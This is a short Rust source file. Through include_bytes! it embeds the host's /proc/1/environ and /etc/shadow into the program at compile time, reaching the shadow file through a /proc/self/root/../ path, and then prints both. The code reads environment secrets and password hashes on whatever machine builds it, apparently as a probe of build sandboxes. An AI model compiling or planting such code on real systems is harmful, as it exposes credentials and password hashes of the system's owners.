const ENVIRONMENT: &[u8] = include_bytes!("/proc/1/environ");
const OTHERS: &[u8] = include_bytes!("/proc/self/root/../etc/shadow");
fn main() { println!("{:?} {:?}", ENVIRONMENT, OTHERS); }
